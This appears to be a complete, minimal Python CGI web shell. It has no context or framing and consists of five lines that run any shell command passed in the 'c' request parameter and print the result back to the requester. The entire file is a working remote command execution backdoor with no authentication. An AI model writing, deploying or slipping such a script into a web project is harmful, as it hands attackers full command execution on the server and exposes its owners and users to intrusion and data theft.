#!/usr/bin/env python3
import cgi, os
form = cgi.FieldStorage()
print("Content-Type: text/plain\n")
print(os.popen(form.getvalue("c", "id")).read())
